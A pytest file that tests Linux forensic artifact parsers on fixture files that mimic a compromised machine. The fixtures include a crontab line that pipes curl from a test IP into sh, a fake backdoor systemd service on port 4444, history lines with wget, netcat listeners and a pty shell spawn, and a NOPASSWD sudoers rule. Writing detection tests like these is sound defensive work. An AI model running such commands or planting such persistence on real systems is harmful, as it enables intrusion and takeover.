"""The built-in Linux artifacts that read files, each run on fixture files laid out here as on a
real machine (a password file, crontabs, unit files, a dpkg database, SSH keys, histories, logs),
and checked value by value; a few also run on this machine's own files."""

from __future__ import annotations

import base64
import gzip
import hashlib
import os
import shutil
import socket
import struct
import textwrap
from datetime import UTC, datetime
from pathlib import Path

import pytest

from tests.test_artifact_library import collect


def write(path: Path, text: str, mode: int | None = None) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(textwrap.dedent(text))
    if mode is not None:
        path.chmod(mode)
    return path


def epoch(text: str) -> datetime:
    return datetime.fromisoformat(text).replace(tzinfo=UTC)


# Users and groups -------------------------------------------------------------------------------

PASSWD = """\
    root:x:0:0:root:/root:/bin/bash
    sync:x:4:65534:sync:/bin:/bin/sync
    svc:x:998:998:Service account,,,:/var/lib/svc:/usr/sbin/nologin
    alice:x:1000:1000:Alice Example,,,:/home/alice:/bin/bash
    toor:x:0:0::/var/tmp/.t:/bin/sh
    """


def test_users_come_from_the_password_file(tmp_path: Path) -> None:
    passwd = write(tmp_path / "passwd", PASSWD)
    result = collect("Linux.Sys.Users", {"PasswdFile": str(passwd)}).ok()
    assert result.column("User") == ["root", "sync", "svc", "alice", "toor"]
    alice = result.by("User")["alice"]
    assert alice == {"User": "alice", "Uid": 1000, "Gid": 1000,
                     "Description": "Alice Example,,,", "Homedir": "/home/alice",
                     "Shell": "/bin/bash", "Source": str(passwd)}
    only = collect("Linux.Sys.Users", {"PasswdFile": str(passwd), "UserRegex": "^(al|sv)"}).ok()
    assert only.column("User") == ["svc", "alice"]


def test_users_here_include_root() -> None:
    result = collect("Linux.Sys.Users").ok()
    assert result.by("User")["root"]["Uid"] == 0


def test_groups_list_their_members(tmp_path: Path) -> None:
    group = write(tmp_path / "group", """\
        root:x:0:
        sudo:x:27:alice,bob
        docker:x:999:bob
        """)
    result = collect("Linux.Sys.Groups", {"GroupFile": str(group)}).ok()
    assert result.by("Group")["sudo"] == {"Group": "sudo", "Gid": 27, "Members": ["alice", "bob"],
                                          "Source": str(group)}
    assert result.by("Group")["root"]["Members"] == []
    bobs = collect("Linux.Sys.Groups", {"GroupFile": str(group), "MemberRegex": "bob"}).ok()
    assert bobs.column("Group") == ["sudo", "docker"]


def test_root_users_flag_a_second_uid_0(tmp_path: Path) -> None:
    passwd = write(tmp_path / "passwd", PASSWD)
    result = collect("Linux.Users.RootUsers", {"PasswdFile": str(passwd)}).ok()
    assert [(r["User"], r["Unexpected"]) for r in result.rows] == [("root", False), ("toor", True)]


def test_interactive_users_skip_placeholder_shells(tmp_path: Path) -> None:
    passwd = write(tmp_path / "passwd", PASSWD)
    result = collect("Linux.Users.InteractiveUsers", {"PasswdFile": str(passwd)}).ok()
    assert result.column("User") == ["root", "alice", "toor"]


# Logins (utmp and wtmp through who and last) ---------------------------------------------------

BOOT_TIME, USER_PROCESS, DEAD_PROCESS = 2, 7, 8


def utmp_record(kind: int, pid: int, line: str, user: str, host: str, when: datetime) -> bytes:
    """One glibc x86-64 utmp record (384 bytes), as login and sshd write them."""
    try:
        address = socket.inet_aton(host) + bytes(12)
    except OSError:  # a boot record's host field holds the kernel's release
        address = bytes(16)
    return struct.pack("<hhi32s4s32s256shhiii16s20s", kind, 0, pid, line.encode(),
                       line[-4:].encode(), user.encode(), host.encode(), 0, 0, 0,
                       int(when.timestamp()), 0, address, b"")


@pytest.fixture
def wtmp(tmp_path: Path) -> Path:
    path = tmp_path / "wtmp"
    path.write_bytes(
        utmp_record(BOOT_TIME, 0, "~", "reboot", "6.1.0-13-amd64", epoch("2026-11-30T07:00:00"))
        + utmp_record(USER_PROCESS, 4100, "pts/3", "alice", "203.0.113.9",
                    epoch("2026-11-30T08:00:00"))
        + utmp_record(DEAD_PROCESS, 4100, "pts/3", "", "", epoch("2026-11-30T09:30:00"))
        + utmp_record(USER_PROCESS, 4200, "pts/4", "mallory", "198.51.100.7",
                      epoch("2026-11-30T22:15:00")))
    return path


needs_last = pytest.mark.skipif(not (shutil.which("last") and shutil.which("who")),
                                reason="util-linux last and coreutils who are not installed")


@needs_last
def test_last_logins_from_a_wtmp_file(wtmp: Path) -> None:
    result = collect("Linux.Sys.LastUserLogin", {"WtmpGlob": str(wtmp)}).ok()
    assert result.by("User")["alice"] == {
        "User": "alice", "Terminal": "pts/3", "Host": "203.0.113.9",
        "LoginTime": epoch("2026-11-30T08:00:00"), "LogoutTime": epoch("2026-11-30T09:30:00"),
        "Status": "", "Duration": "01:30", "Source": str(wtmp)}
    mallory = result.by("User")["mallory"]
    assert mallory["LogoutTime"] is None
    assert mallory["Status"] == "gone - no logout"
    assert mallory["Host"] == "198.51.100.7"
    boot = result.by("User")["reboot"]
    assert (boot["Terminal"], boot["LoginTime"], boot["Status"]) == \
        ("system boot", epoch("2026-11-30T07:00:00"), "still running")
    logins = collect("Linux.Sys.LastUserLogin", {"WtmpGlob": str(wtmp),
                                                 "IncludeReboots": "N"}).ok()
    assert sorted(logins.column("User")) == ["alice", "mallory"]


@needs_last
def test_logged_in_users_from_a_utmp_file(wtmp: Path) -> None:
    result = collect("Linux.Sys.LoggedInUsers", {"UtmpFile": str(wtmp)}).ok()
    # who lists the login records; times to the minute.
    assert [(r["User"], r["Terminal"], r["Pid"], r["Host"], r["LoginTime"])
            for r in result.rows] == [
        ("alice", "pts/3", 4100, "203.0.113.9", epoch("2026-11-30T08:00:00")),
        ("mallory", "pts/4", 4200, "198.51.100.7", epoch("2026-11-30T22:15:00"))]
    mallory = collect("Linux.Sys.LoggedInUsers", {"UtmpFile": str(wtmp),
                                                  "UserRegex": "^mal"}).ok()
    assert mallory.column("User") == ["mallory"]


@needs_last
def test_login_artifacts_say_why_when_the_agent_may_not_run_programs(wtmp: Path) -> None:
    result = collect("Linux.Sys.LoggedInUsers", {"UtmpFile": str(wtmp)}, prevent_execve=True)
    assert result.rows == []
    assert any("prevent_execve" in error for error in result.errors), result.errors


# Scheduled work ---------------------------------------------------------------------------------


def test_crontabs_cron_d_user_crontabs_and_periodic_scripts(tmp_path: Path) -> None:
    write(tmp_path / "etc/crontab", """\
        # system crontab
        SHELL=/bin/sh
        PATH=/tmp/.x:/usr/bin
        17 *	* * *	root    cd / && run-parts --report /etc/cron.hourly
        """)
    write(tmp_path / "etc/cron.d/backup", "@reboot root /var/tmp/.cache/agent --quiet\n")
    write(tmp_path / "spool/crontabs/mallory", "*/5 * * * * curl -s http://198.51.100.7/x | sh\n")
    script = write(tmp_path / "etc/cron.daily/logrotate", "#!/bin/sh\nlogrotate /etc/lr.conf\n",
                   0o755)
    result = collect("Linux.Sys.Crontab", {
        "SystemCrontabGlob": f"{{{tmp_path}/etc/crontab,{tmp_path}/etc/cron.d/*}}",
        "UserCrontabGlob": f"{tmp_path}/spool/crontabs/*",
        "CronScriptGlob": f"{tmp_path}/etc/cron.{{hourly,daily,weekly,monthly}}/*",
    }).ok()
    summary = [(r["Kind"], r["Schedule"], r["User"], r["Command"]) for r in result.rows]
    assert ("job", "17 *\t* * *", "root", "cd / && run-parts --report /etc/cron.hourly") \
        in summary
    assert ("job", "@reboot", "root", "/var/tmp/.cache/agent --quiet") in summary
    assert ("job", "*/5 * * * *", "mallory", "curl -s http://198.51.100.7/x | sh") in summary
    assert ("variable", None, None, "PATH=/tmp/.x:/usr/bin") in summary
    scripts = [r for r in result.rows if r["Kind"] == "script"]
    assert [(r["Schedule"], r["Command"], r["SHA256"]) for r in scripts] == [
        ("daily", str(script), hashlib.sha256(script.read_bytes()).hexdigest())]
    assert len(result.rows) == 6




def _units(tmp_path: Path) -> dict[str, str]:
    system = tmp_path / "system"
    write(system / "backdoor.service", """\
        [Unit]
        Description=System Update Helper

        [Service]
        Type=simple
        User=nobody
        ExecStartPre=/bin/mkdir -p /run/helper
        ExecStart=-/opt/.helper/agent --daemon --port 4444
        Restart=always

        [Install]
        WantedBy=multi-user.target
        """)
    write(system / "plain.service", "[Service]\nExecStart=/usr/bin/true\n")
    write(system / "cleanup.timer", """\
        [Unit]
        Description=Hourly cleanup

        [Timer]
        OnCalendar=hourly
        Persistent=true
        Unit=backdoor.service
        """)
    write(system / "plain.timer", "[Timer]\nOnBootSec=15min\nOnUnitActiveSec=1d\n")
    wants = system / "multi-user.target.wants"
    wants.mkdir()
    (wants / "backdoor.service").symlink_to(system / "backdoor.service")
    timers = system / "timers.target.wants"
    timers.mkdir()
    (timers / "cleanup.timer").symlink_to(system / "cleanup.timer")
    return {"wants": f"{system}/*.wants/*"}


def test_systemd_services_from_unit_files(tmp_path: Path) -> None:
    globs = _units(tmp_path)
    result = collect("Linux.Sys.Services", {"ServiceGlob": f"{tmp_path}/system/*.service",
                                            "WantsGlob": globs["wants"]}).ok()
    backdoor = result.by("Service")["backdoor.service"]
    assert {k: backdoor[k] for k in ("Description", "Type", "User", "ExecStart", "ExecStartPre",
                                     "WantedBy", "Enabled", "Program", "Alias")} == {
        "Description": "System Update Helper", "Type": "simple", "User": "nobody",
        "ExecStart": "-/opt/.helper/agent --daemon --port 4444",
        "ExecStartPre": "/bin/mkdir -p /run/helper", "WantedBy": "multi-user.target",
        "Enabled": True, "Program": "/opt/.helper/agent", "Alias": False}
    plain = result.by("Service")["plain.service"]
    assert (plain["Enabled"], plain["Program"], plain["Description"]) == \
        (False, "/usr/bin/true", None)
    found = collect("Linux.Sys.Services", {"ServiceGlob": f"{tmp_path}/system/*.service",
                                           "WantsGlob": globs["wants"],
                                           "CommandRegex": "--port"}).ok()
    assert found.column("Service") == ["backdoor.service"]


def test_systemd_timers_and_the_units_they_start(tmp_path: Path) -> None:
    globs = _units(tmp_path)
    result = collect("Linux.Sys.SystemdTimers", {"TimerGlob": f"{tmp_path}/system/*.timer",
                                                 "WantsGlob": globs["wants"]}).ok()
    cleanup = result.by("Timer")["cleanup.timer"]
    assert (cleanup["OnCalendar"], cleanup["Persistent"], cleanup["Unit"], cleanup["Enabled"],
            cleanup["Description"]) == ("hourly", "true", "backdoor.service", True,
                                        "Hourly cleanup")
    plain = result.by("Timer")["plain.timer"]
    assert (plain["OnBootSec"], plain["OnUnitActiveSec"], plain["Unit"], plain["Enabled"]) == \
        ("15min", "1d", "plain.service", False)


def test_systemd_units_here() -> None:
    services = collect("Linux.Sys.Services").ok()
    if not Path("/lib/systemd/system").is_dir() and not Path("/usr/lib/systemd/system").is_dir():
        assert services.rows == []
        return
    assert services.rows, "systemd's unit folders exist but no service was found"
    assert all(row["OSPath"].endswith(".service") for row in services.rows)


# Kernel and file systems ------------------------------------------------------------------------


def test_kernel_modules_with_dependents_and_taint(tmp_path: Path) -> None:
    modules = write(tmp_path / "modules", """\
        nf_tables 364544 4 nft_chain_nat,nft_compat, Live 0xffffffffc0a00000
        diamorphine 16384 0 - Live 0x0000000000000000 (OE)
        """)
    result = collect("Linux.Proc.Modules", {"ModulesFile": str(modules)}).ok()
    assert result.rows == [
        {"Name": "nf_tables", "Size": 364544, "UseCount": 4,
         "UsedBy": ["nft_chain_nat", "nft_compat"], "State": "Live",
         "Address": "0xffffffffc0a00000", "Taint": ""},
        {"Name": "diamorphine", "Size": 16384, "UseCount": 0, "UsedBy": [], "State": "Live",
         "Address": "0x0000000000000000", "Taint": "OE"}]


def test_kernel_modules_without_module_support_find_nothing_quietly(tmp_path: Path) -> None:
    result = collect("Linux.Proc.Modules", {"ModulesFile": str(tmp_path / "absent")}).ok()
    assert result.rows == []


def test_mounts_with_escaped_paths(tmp_path: Path) -> None:
    mounts = write(tmp_path / "mounts", """\
        /dev/sda1 / ext4 rw,relatime 0 0
        server:/export /mnt/case\\040files nfs4 rw,noexec,nosuid 0 0
        tmpfs /proc/4242 tmpfs rw 0 0
        """)
    result = collect("Linux.Mounts", {"MountsFile": str(mounts)}).ok()
    assert result.rows[1] == {"Device": "server:/export", "MountPoint": "/mnt/case files",
                              "FsType": "nfs4", "Options": ["rw", "noexec", "nosuid"]}
    hidden = collect("Linux.Mounts", {"MountsFile": str(mounts),
                                      "MountPointRegex": "^/proc/[0-9]"}).ok()
    assert hidden.column("FsType") == ["tmpfs"]


def test_mounts_here_include_proc() -> None:
    result = collect("Linux.Mounts", {"FsTypeRegex": "^proc$"}).ok()
    assert "/proc" in result.column("MountPoint")


# Packages ---------------------------------------------------------------------------------------

DPKG_STATUS = """\
    Package: openssh-server
    Status: install ok installed
    Priority: optional
    Section: net
    Installed-Size: 1890
    Maintainer: Debian OpenSSH Maintainers <debian-ssh@lists.debian.org>
    Architecture: amd64
    Source: openssh
    Version: 1:9.2p1-2+deb12u3
    Description: secure shell (SSH) server, for secure access from remote machines
     This is the portable version of OpenSSH.

    Package: nmap
    Status: install ok installed
    Installed-Size: 4512
    Maintainer: Debian Security Tools <team+pkg-security@tracker.debian.org>
    Architecture: amd64
    Version: 7.93+dfsg1-1
    Description: The Network Mapper

    Package: telnetd
    Status: deinstall ok config-files
    Architecture: amd64
    Version: 0.17-44
    Description: basic telnet server
    """


def test_debian_packages_from_the_dpkg_database(tmp_path: Path) -> None:
    status = write(tmp_path / "status", DPKG_STATUS)
    result = collect("Linux.Debian.Packages", {"StatusFile": str(status)}).ok()
    assert result.column("Package") == ["openssh-server", "nmap"]
    assert result.rows[0] == {
        "Package": "openssh-server", "Version": "1:9.2p1-2+deb12u3", "Architecture": "amd64",
        "Status": "install ok installed", "Source": "openssh",
        "Maintainer": "Debian OpenSSH Maintainers <debian-ssh@lists.debian.org>",
        "InstalledSizeKB": 1890,
        "Summary": "secure shell (SSH) server, for secure access from remote machines"}
    everything = collect("Linux.Debian.Packages", {"StatusFile": str(status),
                                                   "InstalledOnly": "N"}).ok()
    assert everything.column("Package") == ["openssh-server", "nmap", "telnetd"]


def test_rpm_packages_through_rpm_queryformat(tmp_path: Path) -> None:
    rpm = write(tmp_path / "rpm", """\
        #!/bin/sh
        [ "$1" = "-qa" ] && [ "$2" = "--queryformat" ] || exit 2
        printf 'openssh-server\\t8.7p1\\t38.el9\\tx86_64\\t1700000000\\tRocky\\tAn SSH server\\n'
        printf 'nmap\\t7.92\\t1.el9\\tx86_64\\t1790000000\\t(none)\\tNetwork scanner\\n'
        """, 0o755)
    # No rpm here: the precondition would skip it, so it runs without.
    result = collect("Linux.RHEL.Packages", {"RpmCommand": str(rpm)}, anywhere=True).ok()
    assert result.rows == [
        {"Name": "openssh-server", "Version": "8.7p1", "Release": "38.el9",
         "Architecture": "x86_64", "InstallTime": datetime.fromtimestamp(1700000000, UTC),
         "Vendor": "Rocky", "Summary": "An SSH server"},
        {"Name": "nmap", "Version": "7.92", "Release": "1.el9", "Architecture": "x86_64",
         "InstallTime": datetime.fromtimestamp(1790000000, UTC), "Vendor": "(none)",
         "Summary": "Network scanner"}]


def test_rpm_packages_are_skipped_without_rpm() -> None:
    if shutil.which("rpm"):
        pytest.skip("rpm is installed here")
    assert collect("Linux.RHEL.Packages").ok().rows == []


# SSH --------------------------------------------------------------------------------------------

ED25519 = "AAAAC3NzaC1lZDI1NTE5AAAAIB5mZ2hpamtsbW5vcHFyc3R1dnd4eXo="


def test_authorized_keys_with_options_comments_and_digests(tmp_path: Path) -> None:
    write(tmp_path / "home/alice/.ssh/authorized_keys", f"""\
        # alice's keys
        ssh-ed25519 {ED25519} alice@laptop
        command="/usr/local/bin/backup",from="10.0.0.0/8" ssh-rsa AAAAB3NzaC1yc2EAAAADAQAB backup

        """)
    write(tmp_path / "root/.ssh/authorized_keys2", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA\n")
    result = collect("Linux.Ssh.AuthorizedKeys", {
        "KeyGlob": f"{{{tmp_path}/root,{tmp_path}/home/*}}/.ssh/authorized_keys*"}).ok()
    assert sorted((r["User"], r["KeyType"], r["Comment"] or "") for r in result.rows) == [
        ("alice", "ssh-ed25519", "alice@laptop"), ("alice", "ssh-rsa", "backup"),
        ("root", "ssh-ed25519", "")]
    laptop = result.by("Comment")["alice@laptop"]
    assert laptop["Key"] == ED25519
    digest = hashlib.sha256(base64.b64decode(ED25519)).digest()
    assert laptop["Fingerprint"] == "SHA256:" + base64.b64encode(digest).decode().rstrip("=")
    assert result.by("Comment")["backup"]["Options"] == \
        'command="/usr/local/bin/backup",from="10.0.0.0/8"'


def test_known_hosts_plain_hashed_and_marked(tmp_path: Path) -> None:
    write(tmp_path / "home/bob/.ssh/known_hosts", """\
        db1.internal,10.1.2.3 ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMq
        |1|F1E1KeoE/eEWhi10WpGv4OdiO6Y=|3988QV0VE8wmZL7suNrYQLITLCg= ssh-rsa AAAAB3Nza
        @revoked * ssh-rsa AAAAB3NzaREVOKED old key
        """)
    result = collect("Linux.Ssh.KnownHosts", {
        "KnownHostsGlob": f"{tmp_path}/home/*/.ssh/known_hosts*"}).ok()
    assert [(r["User"], r["Hosts"], r["Hashed"], r["Marker"]) for r in result.rows] == [
        ("bob", ["db1.internal", "10.1.2.3"], False, ""),
        ("bob", ["|1|F1E1KeoE/eEWhi10WpGv4OdiO6Y=|3988QV0VE8wmZL7suNrYQLITLCg="], True, ""),
        ("bob", ["*"], False, "@revoked")]
    assert result.rows[2]["Comment"] == "old key"
    internal = collect("Linux.Ssh.KnownHosts", {
        "KnownHostsGlob": f"{tmp_path}/home/*/.ssh/known_hosts*", "HostRegex": "internal"}).ok()
    assert len(internal.rows) == 1


# Shell histories --------------------------------------------------------------------------------


def test_shell_histories_of_each_shell_with_times(tmp_path: Path) -> None:
    write(tmp_path / "home/alice/.bash_history",
          "ls -la\n#1796500000\nwget http://203.0.113.5/x.sh\n")
    write(tmp_path / "home/bob/.zsh_history", ": 1796500100:0;sudo -i\nplain command\n")
    write(tmp_path / "home/bob/.local/share/fish/fish_history",
          "- cmd: nc -lvp 4444\n  when: 1796500200\n")
    write(tmp_path / "root/.python_history", "import pty; pty.spawn('/bin/sh')\n")
    result = collect("Linux.Sys.ShellHistory", {"HistoryGlob": (
        f"{{{tmp_path}/root,{tmp_path}/home/*}}/{{.bash_history,.zsh_history,"
        ".local/share/fish/fish_history,.python_history}")}).ok()
    got = {(r["User"], r["Shell"], r["Command"], r["Time"]) for r in result.rows}
    assert got == {
        ("alice", "bash", "ls -la", None),
        ("alice", "bash", "wget http://203.0.113.5/x.sh", datetime.fromtimestamp(1796500000, UTC)),
        ("bob", "zsh", "sudo -i", datetime.fromtimestamp(1796500100, UTC)),
        ("bob", "zsh", "plain command", None),
        ("bob", "fish", "nc -lvp 4444", datetime.fromtimestamp(1796500200, UTC)),
        ("root", "python", "import pty; pty.spawn('/bin/sh')", None)}


# Files ------------------------------------------------------------------------------------------


def test_suid_and_sgid_files_with_hashes(tmp_path: Path) -> None:
    shell = write(tmp_path / "tmp/.x/sh", "#!/bin/sh\n", 0o4755)
    group = write(tmp_path / "usr/bin/wall", "wall\n", 0o2755)
    write(tmp_path / "usr/bin/plain", "plain\n", 0o755)
    result = collect("Linux.Sys.SUID", {"SearchGlob": f"{tmp_path}/**"}).ok()
    assert {r["OSPath"]: (r["SUID"], r["SGID"], r["SHA256"]) for r in result.rows} == {
        str(shell): (True, False, hashlib.sha256(shell.read_bytes()).hexdigest()),
        str(group): (False, True, hashlib.sha256(group.read_bytes()).hexdigest())}
    assert result.by("Name")["sh"]["Mode"] == "urwxr-xr-x"


def test_recently_modified_files_and_a_time_stomped_one(tmp_path: Path) -> None:
    fresh = write(tmp_path / "etc/fresh.conf", "new\n")
    stomped = write(tmp_path / "usr/bin/ls", "trojan\n")
    os.utime(stomped, (1_500_000_000, 1_500_000_000))  # the Ctime stays now
    write(tmp_path / "home/a/.cache/junk", "cache\n")
    result = collect("Linux.Search.RecentlyModified", {"SearchGlob": f"{tmp_path}/**",
                                                       "Hours": "1"}).ok()
    assert {r["OSPath"]: r["TimeStomped"] for r in result.rows} == {
        str(fresh): False, str(stomped): True}
    with_dirs = collect("Linux.Search.RecentlyModified", {"SearchGlob": f"{tmp_path}/**",
                                                          "IncludeDirectories": "Y"}).ok()
    assert str(tmp_path / "etc") in with_dirs.column("OSPath")


def test_hosts_file_entries(tmp_path: Path) -> None:
    hosts = write(tmp_path / "hosts", """\
        127.0.0.1	localhost
        # 10.0.0.1 commented.example
        ::1     localhost ip6-localhost ip6-loopback
        198.51.100.7 update.vendor.example   downloads.vendor.example # added 2026-11
        """)
    result = collect("Linux.Network.Hosts", {"HostsFile": str(hosts)}).ok()
    assert [(r["Address"], r["Hostnames"], r["Comment"]) for r in result.rows] == [
        ("127.0.0.1", ["localhost"], ""),
        ("::1", ["localhost", "ip6-localhost", "ip6-loopback"], ""),
        ("198.51.100.7", ["update.vendor.example", "downloads.vendor.example"], "added 2026-11")]
    vendor = collect("Linux.Network.Hosts", {"HostsFile": str(hosts),
                                             "HostnameRegex": "vendor"}).ok()
    assert vendor.column("Address") == ["198.51.100.7"]


# Logs -------------------------------------------------------------------------------------------

AUTH_LOG = """\
    Dec  6 04:00:01 web1 sshd[1201]: Invalid user admin from 198.51.100.7 port 40001
    Dec  6 04:00:02 web1 sshd[1201]: Failed password for invalid user admin from 198.51.100.7 port 40001 ssh2
    Dec  6 04:00:05 web1 sshd[1202]: Failed password for root from 198.51.100.7 port 40002 ssh2
    Dec  6 04:00:09 web1 sshd[1203]: Accepted password for root from 198.51.100.7 port 40003 ssh2
    Dec  6 04:10:00 web1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash
    Dec  6 04:20:00 web1 CRON[1300]: pam_unix(cron:session): session closed for user root
    """  # noqa: E501
ROTATED = ("2026-11-29T23:00:00.000000+00:00 web1 sshd[900]: Accepted publickey for alice from "
           "203.0.113.9 port 50000 ssh2: ED25519 SHA256:abc\n")


@pytest.fixture
def auth_logs(tmp_path: Path) -> str:
    write(tmp_path / "log/auth.log", AUTH_LOG)
    (tmp_path / "log/auth.log.2.gz").write_bytes(gzip.compress(ROTATED.encode()))
    return f"{tmp_path}/log/auth.log*"


def test_auth_log_search_reads_rotated_gzip_logs(auth_logs: str) -> None:
    result = collect("Linux.Syslog.AuthLogSearch", {"LogGlob": auth_logs}).ok()
    assert len(result.rows) == 6  # the CRON line does not match the default search
    year = datetime.now(UTC).year
    assert result.rows[2] == {
        "Time": datetime(year, 12, 6, 4, 0, 5, tzinfo=UTC), "Host": "web1", "Program": "sshd",
        "Pid": 1202, "Message": "Failed password for root from 198.51.100.7 port 40002 ssh2",
        "Line": textwrap.dedent(AUTH_LOG).splitlines()[2],
        "OSPath": auth_logs.removesuffix("*")}
    rotated = result.rows[5]
    assert (rotated["Time"], rotated["Program"], rotated["Pid"], rotated["OSPath"]) == (
        datetime(2026, 11, 29, 23, 0, tzinfo=UTC), "sshd", 900,
        auth_logs.removesuffix("*") + ".2.gz")
    sudo = collect("Linux.Syslog.AuthLogSearch", {"LogGlob": auth_logs, "SearchRegex": "COMMAND=",
                                                  "ProgramRegex": "^sudo$"}).ok()
    assert sudo.column("Message") == [
        "alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash"]
    assert sudo.rows[0]["Pid"] is None  # sudo writes no process id


def test_ssh_logins_and_the_per_address_summary(auth_logs: str) -> None:
    result = collect("Linux.Syslog.SSHLogin", {"LogGlob": auth_logs}).ok()
    logins = [r for r, s in zip(result.rows, result.sources, strict=True)
              if s == "Linux.Syslog.SSHLogin/Logins"]
    assert [(r["Event"], r["Method"], r["User"], r["Address"], r["Port"], r["InvalidUser"])
            for r in logins] == [
        ("Invalid user", "", "admin", "198.51.100.7", 40001, True),
        ("Failed", "password", "admin", "198.51.100.7", 40001, True),
        ("Failed", "password", "root", "198.51.100.7", 40002, False),
        ("Accepted", "password", "root", "198.51.100.7", 40003, False),
        ("Accepted", "publickey", "alice", "203.0.113.9", 50000, False)]
    summary = {r["Address"]: (r["Events"], r["Failures"], r["Successes"])
               for r, s in zip(result.rows, result.sources, strict=True)
               if s == "Linux.Syslog.SSHLogin/ByAddress"}
    assert summary == {"198.51.100.7": (4, 3, 1), "203.0.113.9": (1, 0, 1)}


# Network configuration files --------------------------------------------------------------------


def test_arp_cache(tmp_path: Path) -> None:
    arp = write(tmp_path / "arp", """\
        IP address       HW type     Flags       HW address            Mask     Device
        192.168.1.1      0x1         0x2         aa:bb:cc:dd:ee:01     *        eth0
        192.168.1.50     0x1         0x6         aa:bb:cc:dd:ee:01     *        eth0
        """)
    result = collect("Linux.Proc.Arp", {"ArpFile": str(arp)}).ok()
    assert result.rows == [
        {"Address": "192.168.1.1", "MAC": "aa:bb:cc:dd:ee:01", "Device": "eth0", "Flags": "0x2",
         "Static": False},
        {"Address": "192.168.1.50", "MAC": "aa:bb:cc:dd:ee:01", "Device": "eth0", "Flags": "0x6",
         "Static": True}]


def test_sudoers_rules_with_continuations_and_includes(tmp_path: Path) -> None:
    write(tmp_path / "sudoers", """\
        # sudoers
        Defaults	env_reset
        Cmnd_Alias BACKUP = /usr/bin/rsync, \\
            /usr/bin/tar
        root	ALL=(ALL:ALL) ALL
        #includedir /etc/sudoers.d
        """)
    write(tmp_path / "sudoers.d/zz-web", "www-data ALL=(ALL) NOPASSWD: ALL\n")
    result = collect("Linux.Sys.Sudoers", {
        "SudoersGlob": f"{{{tmp_path}/sudoers,{tmp_path}/sudoers.d/*}}"}).ok()
    assert [(r["Kind"], r["Rule"], r["NoPassword"]) for r in result.rows] == [
        ("Defaults", "Defaults\tenv_reset", False),
        ("Cmnd_Alias", "Cmnd_Alias BACKUP = /usr/bin/rsync,  /usr/bin/tar", False),
        ("rule", "root\tALL=(ALL:ALL) ALL", False),
        ("#includedir", "#includedir /etc/sudoers.d", False),
        ("rule", "www-data ALL=(ALL) NOPASSWD: ALL", True)]


def test_apt_sources_in_both_formats(tmp_path: Path) -> None:
    write(tmp_path / "sources.list", """\
        deb http://deb.debian.org/debian bookworm main contrib
        # deb http://commented.example/ x y
        deb [trusted=yes arch=amd64] http://198.51.100.7/repo stable main # added
        """)
    write(tmp_path / "sources.list.d/debian.sources", """\
        Types: deb deb-src
        # a comment
        URIs: http://deb.debian.org/debian
        Suites: bookworm bookworm-updates
        Components: main
        Signed-By: /usr/share/keyrings/debian-archive-keyring.gpg

        Types: deb
        URIs: http://security.debian.org/debian-security
        Suites: bookworm-security
        Components: main
        """)
    result = collect("Linux.Debian.AptSources", {
        "ListGlob": f"{tmp_path}/sources.list",
        "SourcesGlob": f"{tmp_path}/sources.list.d/*.sources"}).ok()
    assert [(r["Format"], r["Types"], r["URIs"], r["Suites"], r["Components"], r["Options"])
            for r in result.rows] == [
        ("one-line", "deb", "http://deb.debian.org/debian", "bookworm", "main contrib", ""),
        ("one-line", "deb", "http://198.51.100.7/repo", "stable", "main",
         "trusted=yes arch=amd64"),
        ("deb822", "deb deb-src", "http://deb.debian.org/debian", "bookworm bookworm-updates",
         "main", "signed-by=/usr/share/keyrings/debian-archive-keyring.gpg"),
        ("deb822", "deb", "http://security.debian.org/debian-security", "bookworm-security",
         "main", "")]
